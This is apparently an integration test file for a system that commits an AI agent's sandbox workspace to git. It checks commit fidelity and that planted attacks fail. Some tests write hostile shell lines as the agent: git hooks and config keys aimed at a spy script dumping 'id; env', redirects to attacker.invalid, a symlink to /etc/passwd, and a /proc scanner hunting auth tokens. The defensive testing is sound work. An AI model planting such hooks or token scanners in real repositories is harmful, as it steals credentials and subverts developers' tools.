import { randomBytes } from "node:crypto";
import { chmod, mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { git, mustGit } from "../../testing/git-world";
import { testRuntimes } from "../../testing/int-environment";
import { ledgerFaults, readLedger } from "../../testing/meter-world";
import { createLife } from "../../testing/mortal";
import type { WorkspaceProcess } from "../../testing/workspace-process";
import { openTestRun, type OpenRun } from "../../testing/workspace-run";
import {
  createWorkspaceWorld,
  type WorkspaceProject,
  type WorkspaceWorld,
} from "../../testing/workspace-world";
import { sandboxIdOf } from "../runs/rules";
import type { CompleteTaskResult } from "../schema";

const identity = "-c user.name=a -c user.email=a@example.test";

describe.each(testRuntimes)("on %s", (runtime) => {
  let world: WorkspaceWorld;
  let project: WorkspaceProject;
  let one: WorkspaceProcess;
  let two: WorkspaceProcess;
  beforeAll(async () => {
    world = await createWorkspaceWorld(runtime);
    one = world.startProcess();
    two = world.startProcess();
    project = await world.createProject(
      {
        "README.md": "hello\n",
        "package.json": JSON.stringify({ scripts: { daemon: "setsid sleep 900 & echo on" } }),
        ".gitignore": "*.log\nbuild/\n",
        "src/a.ts": "export const a = 1;\n",
      },
      async (source) => {
        await writeFile(join(source, "tracked.log"), "tracked\n");
        await mustGit(["add", "--force", "tracked.log"], { cwd: source });
        await mkdir(join(source, "bin"));
        await writeFile(join(source, "bin/run.sh"), "#!/bin/sh\n");
        await symlink("README.md", join(source, "link"));
        for (const path of ["vendor/one", "vendor/two"]) {
          const entry = `160000,${"1".repeat(40)},${path}`;
          await mustGit(["update-index", "--add", "--cacheinfo", entry], { cwd: source });
          await mkdir(join(source, path), { recursive: true });
        }
      },
    );
  });
  afterAll(() => world.close());

  const open = (): Promise<OpenRun> => openTestRun(world, one, project);

  /** What a command of the agent's could do in its directory and home. */
  const asAgent = (run: OpenRun, script: string): Promise<string> =>
    world.shellIn(
      project.projectId,
      run.uid,
      `cd /workspace/${run.runId} && export HOME=/var/lib/rhumbatron/runs/${run.uid}/home && ${script}`,
    );

  const complete = (run: OpenRun, process = one): Promise<CompleteTaskResult> =>
    process.workspaces.completeTask(run.agent, { runId: run.runId, title: "A title", summary: "Words." });

  const mustPropose = async (run: OpenRun, process = one) => {
    const result = await complete(run, process);
    if (result.status !== "proposed") throw new Error(result.status);
    return result;
  };

  /** Proposes, and gives what a script shows just after the push, before anything of the Run is removed. */
  async function proposeAndLook(run: OpenRun, script: string): Promise<{ headCommit: string; seen: string }> {
    let seen = "never looked";
    const looking = world.startProcess({
      git: {
        ...client(),
        keepCommit: async (input) => {
          seen = await world.shellIn(project.projectId, 0, script);
          return client().keepCommit(input);
        },
      },
    });
    const { headCommit } = await mustPropose(run, looking);
    return { headCommit, seen };
  }

  /** The tree that plain git makes of the first commit's working tree after `change`, and its patch. */
  async function plainTree(
    change: (directory: string) => Promise<unknown>,
  ): Promise<{ tree: string; directory: string }> {
    const directory = join(project.source, "..", `plain-${randomBytes(6).toString("hex")}`);
    await mustGit(["clone", "--quiet", project.source, directory]);
    await change(directory);
    await mustGit(["add", "--all"], { cwd: directory });
    return { tree: await mustGit(["write-tree"], { cwd: directory }), directory };
  }

  const client = () => world.git.current().client;

  async function expectOneChangeSet(run: OpenRun, headCommit: string): Promise<void> {
    const sets = await world.db.changeSet.findMany({ where: { runId: run.runId } });
    expect(sets).toMatchObject([{ headCommit, baseCommit: project.commit, version: 1 }]);
    const commit = await client().getCommit({ projectId: project.projectId, commit: headCommit });
    expect(commit.parents).toEqual([project.commit]);
    expect(ledgerFaults(await readLedger(world.db))).toEqual([]);
    const events = await world.db.event.findMany({ where: { changeId: run.changeId } });
    expect(events.filter(({ type }) => type === "changeset.proposed")).toHaveLength(1);
  }

  it("makes exactly the commit that plain git makes of the same tree, and the patch that it prints", async () => {
    const run = await open();
    const large = randomBytes(3 * 1024 * 1024);
    await run.write("docs/Prüfung/Änderung 1.md", "ä\n");
    await run.write("한국어/파일.md", "글\n");
    await run.write('odd "name"\\x', "odd\n");
    await run.write("-leading", "dash\n");
    await run.write("large.bin", large);
    await run.write("crlf.txt", "a\r\nb\r\n");
    await run.write("note.log", "ignored\n");
    await run.write("build/out.js", "ignored\n");
    await run.write("tracked.log", "changed though ignored\n");
    await run.write("bin/run.sh", "#!/bin/sh\n", { executable: true });
    await run.remove("src/a.ts");
    await asAgent(run, "ln -s /etc/passwd outside && rm link && ln -s nowhere link");
    const result = await mustPropose(run);
    const plain = await plainTree(async (directory) => {
      await mkdir(join(directory, "docs/Prüfung"), { recursive: true });
      await mkdir(join(directory, "한국어"));
      await mkdir(join(directory, "build"));
      const files: Record<string, string | Buffer> = {
        "docs/Prüfung/Änderung 1.md": "ä\n",
        "한국어/파일.md": "글\n",
        'odd "name"\\x': "odd\n",
        "-leading": "dash\n",
        "large.bin": large,
        "crlf.txt": "a\r\nb\r\n",
        "note.log": "ignored\n",
        "build/out.js": "ignored\n",
        "tracked.log": "changed though ignored\n",
      };
      for (const [path, content] of Object.entries(files)) await writeFile(join(directory, path), content);
      await chmod(join(directory, "bin/run.sh"), 0o755);
      await mustGit(["rm", "-q", "src/a.ts"], { cwd: directory });
      await mustGit(["rm", "-q", "link"], { cwd: directory });
      await symlink("nowhere", join(directory, "link"));
      await symlink("/etc/passwd", join(directory, "outside"));
    });
    const commit = await client().getCommit({ projectId: project.projectId, commit: result.headCommit });
    expect(commit).toMatchObject({ tree: plain.tree, parents: [project.commit], subject: "A title" });
    const range = { projectId: project.projectId, base: project.commit, head: result.headCommit };
    const files = await client().diffFiles(range);
    expect(result.filesChanged).toBe(files.length);
    for (const { path } of files) {
      const { patch } = await client().diffPatch({ ...range, path });
      const printed = await git(
        ["diff", "--cached", "--no-ext-diff", "--find-renames", "HEAD", "--", `:(literal)${path}`],
        { cwd: plain.directory },
      );
      if (path !== "large.bin") expect(patch).toBe(printed.stdout);
    }
    await expectOneChangeSet(run, result.headCommit);
    expect(await world.git.find(`ws-${run.runId}*`)).toEqual([]);
    expect(await complete(run, two)).toEqual(result);
    await expect(run.read("README.md")).rejects.toMatchObject({ code: "run.ended" });
  });

  it("runs nothing and obeys nothing that the agent planted, and no token is left anywhere", async () => {
    const run = await open();
    const mark = `/tmp/mark-${run.uid}`;
    const spy = `#!/bin/sh\\n(id; env) >> ${mark}\\n`;
    await asAgent(
      run,
      [
        `printf '${spy}' > $HOME/spy && chmod 755 $HOME/spy`,
        "mkdir -p .git/hooks $HOME/hooks $HOME/template/hooks",
        "for h in pre-commit pre-push commit-msg post-commit reference-transaction post-index-change; do cp $HOME/spy .git/hooks/$h; cp $HOME/spy $HOME/hooks/$h; cp $HOME/spy $HOME/template/hooks/$h; done",
        "for f in .git/config $HOME/.gitconfig; do for k in core.fsmonitor core.sshCommand core.gitProxy core.askPass core.editor core.pager gpg.program diff.external credential.helper filter.x.clean filter.x.process uploadpack.packObjectsHook; do git config --file $f $k $HOME/spy; done; git config --file $f commit.gpgSign true; git config --file $f push.gpgSign true; git config --file $f core.hooksPath $HOME/hooks; git config --file $f init.templateDir $HOME/template; git config --file $f url.http://attacker.invalid/.insteadOf http://git:8080/; git config --file $f push.followTags true; git config --file $f core.worktree /etc; git config --file $f http.proxy http://attacker.invalid:1; done",
        "printf '[include]\\n\\tpath = /etc/passwd\\n' >> $HOME/.gitconfig",
        "printf '*.txt filter=x\\n*.crlf text eol=crlf\\n' > .gitattributes",
        "mkdir -p .git/info && echo '* filter=x' > .git/info/attributes && echo '*.txt' > .git/info/exclude",
        "printf 'a\\r\\nb\\r\\n' > a.crlf; echo text > a.txt",
        "touch .git/index.lock .git/HEAD.lock",
        "git -c core.hooksPath=/dev/null tag -f planted 2>/dev/null; true",
        `rm -f ${mark}`,
      ].join(" && "),
    );
    const result = await proposeAndLook(run, `cat ${mark} 2>/dev/null || true`);
    expect(result.seen).toBe("");
    const plain = await plainTree(async (directory) => {
      await writeFile(join(directory, ".gitattributes"), "*.txt filter=x\n*.crlf text eol=crlf\n");
      await writeFile(join(directory, "a.crlf"), "a\r\nb\r\n");
      await writeFile(join(directory, "a.txt"), "text\n");
    });
    const commit = await client().getCommit({ projectId: project.projectId, commit: result.headCommit });
    expect(commit.tree).toBe(plain.tree);
    await expectOneChangeSet(run, result.headCommit);
  });

  it("hands no token to a daemon that watches every process, nor leaves one in files", async () => {
    const run = await open();
    await run.write(
      "watch.sh",
      "while :; do for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; done 2>/dev/null | grep -aE 'Basi[c]|contro[l]' >> /tmp/seen-$(id -u); done\n",
    );
    const watch = "(setsid sh watch.sh > /dev/null 2>&1 &)";
    await asAgent(run, `${watch}; SHOWN=control sleep 3; rm watch.sh; echo new > new.txt`);
    const search = "grep -rlaE 'Basi[c] ' /workspace /var/lib/rhumbatron/runs /tmp /home /root 2>/dev/null";
    const watching = `ps -u ${run.uid} -o args= | grep -c watch; sort -u /tmp/seen-${run.uid}; ${search} | sed 's/^/found in /'`;
    const { seen } = await proposeAndLook(run, watching);
    // It saw what it was shown on purpose, and is dead by now.
    expect(seen).toMatch(/^0\nSHOWN=control\n/);
    expect(seen).not.toMatch(/Basic|found in/);
    expect(await world.shellIn(project.projectId, 0, `ps -u ${run.uid} -o args=`)).toBe("");
  });

  // What git alone decides is the same on every kernel.
  if (runtime === testRuntimes[0]) {
    it.each([
      [
        "the agent committed by itself, twice",
        `echo new > new.txt && git ${identity} add new.txt && git ${identity} commit -qm own && git ${identity} commit -q --allow-empty -m more`,
      ],
      ["HEAD is detached", `git checkout -q --detach && echo new > new.txt`],
      [
        "another branch with unrelated history is checked out",
        `git checkout -q --orphan other && git ${identity} commit -qm root && echo new > new.txt`,
      ],
      ["HEAD was rewound and the index emptied", "git read-tree --empty && echo new > new.txt"],
      [".git is gone", "rm -rf .git && echo new > new.txt"],
      [
        ".git is a file that leads elsewhere",
        "rm -rf .git && echo 'gitdir: /etc' > .git && echo new > new.txt",
      ],
      [
        "objects of the clone are broken",
        "chmod -R u+w .git/objects && find .git/objects -type f -exec sh -c 'echo broken > \"$1\"' _ {} \\; && echo new > new.txt",
      ],
      [
        "index, HEAD and refs are broken",
        "echo x > .git/index && echo x > .git/HEAD && rm -rf .git/refs && echo new > new.txt",
      ],
    ])("proposes the tree in one commit when %s", async (_, script) => {
      const run = await open();
      await asAgent(run, `${script}; true`);
      const result = await mustPropose(run);
      const plain = await plainTree((directory) => writeFile(join(directory, "new.txt"), "new\n"));
      const commit = await client().getCommit({ projectId: project.projectId, commit: result.headCommit });
      expect(commit.tree).toBe(plain.tree);
      await expectOneChangeSet(run, result.headCommit);
    });

    it.each([
      ["nothing at all", "true"],
      ["an empty commit", `git ${identity} commit -q --allow-empty -m x`],
      ["ignored files alone", "mkdir -p build && echo x > build/x && echo y > y.log"],
      ["a change that was taken back", "echo x > README.md && git checkout -q README.md"],
    ])("answers no_changes for %s", async (_, script) => {
      const run = await open();
      await asAgent(run, script);
      expect(await complete(run)).toEqual({ status: "no_changes" });
      expect(await complete(run, two)).toEqual({ status: "no_changes" });
      expect(await one.workspaces.getRun(run.agent, run.runId)).toMatchObject({
        state: "no_changes",
        endKind: "completed",
      });
      expect(await one.workspaces.slots(run.changeId)).toMatchObject({ open: 0 });
    });
  }

  it("proposes a change of nothing but a mode", async () => {
    const run = await open();
    await asAgent(run, "chmod +x bin/run.sh");
    const { headCommit } = await mustPropose(run);
    const range = { projectId: project.projectId, base: project.commit, head: headCommit };
    expect(await client().diffFiles(range)).toMatchObject([
      { path: "bin/run.sh", flags: expect.arrayContaining(["mode_changed"]) as unknown },
    ]);
  });

  it("makes at most a gitlink of a nested repository, and starts nothing of its configuration", async () => {
    const run = await open();
    const mark = `/tmp/nested-${run.uid}`;
    await asAgent(
      run,
      `git init -q nested && cd nested && echo x > x && git ${identity} add x && git ${identity} commit -qm x && printf '#!/bin/sh\\ntouch ${mark}\\n' > .git/spy && chmod +x .git/spy && git config core.fsmonitor $PWD/.git/spy`,
    );
    const { headCommit, seen } = await proposeAndLook(run, `ls ${mark} 2>/dev/null || true`);
    const range = { projectId: project.projectId, base: project.commit, head: headCommit };
    expect(await client().diffFiles(range)).toMatchObject([{ path: "nested", kind: "submodule" }]);
    expect(seen).toBe("");
  });

  it("says what cannot be committed, and then the Run is open as before", async () => {
    const run = await open();
    await run.write("new.txt", "new\n");
    await asAgent(run, "git init -q empty");
    await expect(complete(run)).rejects.toMatchObject({ code: "git.rejected" });
    expect(await run.state()).toBe("open");
    await run.remove("empty", true);
    await mustPropose(run);
  });

  it.each([
    [
      "a new directory that cannot be read",
      "mkdir locked && echo x > locked/x && chmod 000 locked",
      "./locked",
      "locked",
    ],
    [
      "one without a list",
      "mkdir -p a/locked && echo x > a/locked/x && chmod 311 a/locked",
      "./a/locked",
      "a/locked",
    ],
    [
      "one that cannot be entered",
      "mkdir locked && echo x > locked/x && chmod 644 locked",
      "./locked",
      "locked",
    ],
    ["a tracked one with a change in it", "echo x > src/a.ts && chmod 000 src", "./src", "src"],
  ])("leaves nothing out in silence that lies in %s", async (_, script, path, name) => {
    const run = await open();
    await run.write("new.txt", "new\n");
    await asAgent(run, script);
    await expect(complete(run)).rejects.toMatchObject({ code: "git.rejected", details: { path } });
    expect(await run.state()).toBe("open");
    await asAgent(run, `chmod 755 ${name}`);
    const { filesChanged } = await mustPropose(run);
    expect(filesChanged).toBe(2);
  });

  it("leaves nothing out in silence that was written into a submodule, and keeps or removes the submodule itself", async () => {
    const run = await open();
    await run.write("vendor/two/x.ts", "x\n");
    const path = "./vendor/two/x.ts";
    await expect(complete(run)).rejects.toMatchObject({ code: "git.rejected", details: { path } });
    expect(await run.state()).toBe("open");
    await run.remove("vendor/two", true);
    await run.write("new.txt", "new\n");
    const { headCommit } = await mustPropose(run);
    const range = { projectId: project.projectId, base: project.commit, head: headCommit };
    expect(await client().diffFiles(range)).toMatchObject([
      { path: "new.txt", status: "added" },
      { path: "vendor/two", status: "deleted", kind: "submodule" },
    ]);
  });

  it("commits a file of mode 000 not at all, or says so", async () => {
    const run = await open();
    await asAgent(run, "echo x > secret && chmod 000 secret");
    await expect(complete(run)).rejects.toMatchObject({ code: "git.rejected" });
    await asAgent(run, "chmod 644 secret");
    await mustPropose(run);
  });

  /** What git does by itself it does here too, so that the commit is what a person would get; a program is never run for it. */
  it("obeys the attributes that git carries out by itself, and commits byte for byte what a filter would be for", async () => {
    const run = await open();
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"a".repeat(64)}\nsize 12345\n`;
    const files: Record<string, string | Buffer> = {
      ".gitattributes":
        "*.bin filter=lfs diff=lfs merge=lfs -text\n*.md text\n*.bat text eol=crlf\n*.raw -text\n*.c ident\n*.u16 text working-tree-encoding=UTF-16LE-BOM\n",
      "data.bin": pointer,
      "crlf.bin": "a\r\nb\r\n",
      "a.md": "a\r\nb\r\n",
      "a.bat": "a\r\nb\r\n",
      "a.raw": "a\r\nb\r\n",
      "a.c": "/* $Id: 0123 $ */\n",
      "a.u16": Buffer.from("\ufeffä\n", "utf16le"),
    };
    for (const [path, content] of Object.entries(files)) await run.write(path, content);
    const { headCommit: head } = await mustPropose(run);
    const plain = await plainTree(async (directory) => {
      for (const [path, content] of Object.entries(files)) await writeFile(join(directory, path), content);
    });
    const commit = await client().getCommit({ projectId: project.projectId, commit: head });
    expect(commit.tree).toBe(plain.tree);
    const range = { projectId: project.projectId, base: project.commit, head };
    const committed = async (path: string): Promise<string> => {
      const { base64 } = await client().readSide({ ...range, path, side: "new", bytesMax: 10_000 });
      return Buffer.from(base64, "base64").toString("utf8");
    };
    expect(await committed("data.bin")).toBe(pointer);
    expect(await committed("crlf.bin")).toBe("a\r\nb\r\n");
    expect(await committed("a.md")).toBe("a\nb\n");
    expect(await committed("a.bat")).toBe("a\nb\n");
    expect(await committed("a.raw")).toBe("a\r\nb\r\n");
    expect(await committed("a.c")).toBe("/* $Id$ */\n");
    expect(await committed("a.u16")).toBe("ä\n");
    const rows = await client().diffFiles(range);
    expect(rows.find(({ path }) => path === "data.bin")).toMatchObject({
      new: { lfs: { objectId: "a".repeat(64), sizeBytes: 12_345 } },
      flags: expect.arrayContaining(["lfs_pointer"]) as unknown,
    });
  });

  it("wakes a Run that sleeps, also one whose Sandbox is gone", async () => {
    const run = await open();
    await run.write("new.txt", "new\n");
    world.clock.shift(125_000);
    await two.workspaces.sweep();
    expect(await run.state()).toBe("asleep");
    await world.engine.sandboxes.remove({ sandboxId: sandboxIdOf(project.projectId) });
    const result = await mustPropose(run);
    const plain = await plainTree((directory) => writeFile(join(directory, "new.txt"), "new\n"));
    const commit = await client().getCommit({ projectId: project.projectId, commit: result.headCommit });
    expect(commit.tree).toBe(plain.tree);
  });

  it("is refused after another end, and twice at once gives one ChangeSet", async () => {
    const failed = await open();
    await failed.write("new.txt", "new\n");
    await one.workspaces.failTask(failed.agent, { runId: failed.runId, reason: "r" });
    await expect(complete(failed)).rejects.toMatchObject({ code: "run.ended" });
    const run = await open();
    await run.write("new.txt", "new\n");
    const both = await Promise.allSettled([complete(run, one), complete(run, two)]);
    const [result] = both.flatMap((each) => (each.status === "fulfilled" ? [each.value] : []));
    if (result?.status !== "proposed") throw new Error("none proposed");
    await expectOneChangeSet(run, result.headCommit);
    expect(await complete(run, two)).toEqual(result);
  });

  it("acknowledged writes that race with it are in the commit", async () => {
    const run = await open();
    const writes = Array.from({ length: 12 }, (_, n) => run.write(`w/${n}`, `${n}\n`));
    await writes[0];
    const [result, ...settled] = await Promise.allSettled([mustPropose(run, two), ...writes]);
    if (result.status !== "fulfilled") throw result.reason;
    const { headCommit: head } = result.value;
    const files = await client().diffFiles({ projectId: project.projectId, base: project.commit, head });
    const written = settled.flatMap(({ status }, n) => (status === "fulfilled" ? [`w/${n}`] : []));
    expect(files.map(({ path }) => path).sort()).toEqual(written.sort());
  });
});

describe("a completion whose process is killed", () => {
  let world: WorkspaceWorld;
  let project: WorkspaceProject;
  let two: WorkspaceProcess;
  beforeAll(async () => {
    world = await createWorkspaceWorld("runc");
    project = await world.createProject();
    two = world.startProcess();
  });
  afterAll(() => world.close());

  it("before any of its steps comes to exactly one ChangeSet by one sweep or a repeat", async () => {
    // Every third one here; the soak tests take each.
    for (let step = 1; ; step += 3) {
      const run = await openTestRun(world, two, project);
      await run.write("new.txt", `${step}\n`);
      const life = createLife(step);
      const dying = world.startProcess({ life });
      const input = { runId: run.runId, title: "t", summary: "s" };
      await dying.workspaces.completeTask(run.agent, input).catch(() => null);
      const isOver = life.isOver();
      dying.kill();
      world.clock.shift(31_000);
      if (step % 2 === 0) await two.workspaces.sweep();
      const result = await two.workspaces.completeTask(run.agent, input);
      if (result.status !== "proposed") throw new Error(`step ${step}: ${result.status}`);
      const sets = await world.db.changeSet.findMany({ where: { runId: run.runId } });
      expect(sets).toMatchObject([{ headCommit: result.headCommit }]);
      const { parents } = await world.git
        .current()
        .client.getCommit({ projectId: project.projectId, commit: result.headCommit });
      expect(parents).toEqual([project.commit]);
      await two.workspaces.sweep();
      expect(await world.git.find(`ws-${run.runId}*`)).toEqual([]);
      expect(await two.workspaces.slots(run.changeId)).toMatchObject({ open: 0 });
      expect(ledgerFaults(await readLedger(world.db))).toEqual([]);
      if (!isOver) {
        expect(step).toBeGreaterThan(10);
        return;
      }
    }
  });
});
